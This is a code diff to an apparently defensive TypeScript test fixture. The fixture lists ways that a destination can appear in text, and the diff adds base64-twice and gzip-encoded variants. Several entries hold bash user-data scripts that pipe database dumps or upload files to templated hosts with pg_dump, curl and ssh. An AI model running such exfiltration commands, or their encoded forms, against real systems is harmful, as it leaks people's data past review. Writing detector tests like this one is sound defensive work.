@@ -2,6 +2,7 @@
  * All ways tried to name a place in texts that no property of the catalogue covers, one a line, as ways.ts. The texts
  * stand below a property that no type has, so that none is judged by its own.
  */
+import { gzipSync } from "node:zlib";
 import type { Value } from "../../policies/border/terms/value.ts";
 import type { Spot } from "./spot.ts";
 
@@ -61,6 +62,8 @@ export const textWays: readonly TextWay[] = [
   { name: "user data: fallback", write: (there) => `#!/bin/bash\npg_dump | psql -h $\{DB:-${there.host}}\n` },
   { name: "user data: gap", write: (there) => `#!/bin/bash\ncurl -T people https://$\{B}.${there.store}/x\n` },
   { name: "user data: shell", write: (there) => `#!/bin/bash\nssh me@${there.host} import < people\n` },
+  { name: "user data in base64 twice", write: (there) => base64(base64(`#!/bin/sh\nship --to ${url(there)}\n`)) },
+  { name: "user data by gzip", write: (there) => gzipSync(`#!/bin/sh\nship --to ${url(there)}\n`).toString("base64") },
   { name: "user data in base64", write: (there) => base64(`#!/bin/bash\ncurl -d @/data ${url(there)}\n`) },
   { name: "user data, a line goes on", write: (there) => `#!/bin/bash\nship /data \\\n  --region ${there.region}\n` },
   { name: "JSON", write: (there) => json({ States: { Ship: { Parameters: { Queue: there.strange } } } }) },
